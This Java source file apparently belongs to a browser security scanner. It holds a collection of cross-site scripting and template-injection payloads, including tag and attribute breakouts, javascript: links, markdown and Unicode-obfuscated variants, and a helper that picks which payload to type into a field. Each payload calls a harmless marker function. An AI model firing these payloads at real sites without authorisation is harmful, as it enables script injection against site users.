package eightbells.browser;

import java.util.List;
import java.util.stream.Stream;

/** What somebody types who wants a script of theirs to run in another's browser. Whatever runs calls {@code __hit}. */
final class Payloads {
    /** In each payload that could run, and nowhere else. */
    static final String MARK = "__hit";

    /** Stands on a page only where something reckoned it out of {@code 1337*7331}. */
    static final String RECKONED = "9801547";

    /** Leaves an attribute, a title, a field, a list and a script; fits into most fields. */
    static final String MARKUP = "\"onfocus=__hit(1) x='onfocus=__hit(2) y='></title></textarea></select></script>"
            + "<script>__hit(3)</script><img src=x onerror=__hit(4)><svg onload=__hit(5)>{1337*7331}";

    private static final String TEMPLATE = "{{1337*7331}}${1337*7331}#{1337*7331}{#include web/layout}{/include}";
    private static final String MARKDOWN =
            "[x](javascript:__hit(6)) <javascript:__hit(7)> ![x](x\"onerror=\"__hit(8)) `<img src=x onerror=__hit(9)>`";
    private static final String ODD =
            "\u202e\u2066<svg/onload=__hit(10)>\ufeff'-__hit(11)-'\\u003cimg src=x\\u003e--></style><p style=color:red>";

    /** Everything at once, for whatever takes a long text. */
    static final String LONG = MARKUP + TEMPLATE + MARKDOWN + ODD;

    /** For an address that somebody may follow. */
    static final String ADDRESS = "javascript:__hit(12)//\"><img src=x onerror=__hit(13)>";

    /** For an address on the web that is more than that. */
    static final String WEB = "https://example.org/\"onfocus='__hit(14)'><svg/onload=__hit(15)>";

    private static final String MAIL = "\"><svg/onload=__hit(16)>@example.org";
    private static final String SHORT = "\"><svg onload=__hit()>";
    static final String TINY = "'\"<";

    private Payloads() {}

    /**
     * What to type into a field, one after the other as they are refused.
     *
     * @param most as many characters as it takes; negative: any
     * @param kind {@code mail} or {@code url} where it may be an address of that kind
     */
    static List<String> tries(String worst, int most, String kind) {
        Stream<String> all = Stream.of(worst, MARKUP, SHORT, TINY);
        String first = all.filter(payload -> most < 0 || payload.length() <= most)
                .findFirst()
                .orElse("");
        return switch (kind) {
            case "mail" -> List.of(first, MAIL);
            case "url" -> List.of(first, WEB);
            default -> List.of(first);
        };
    }
}
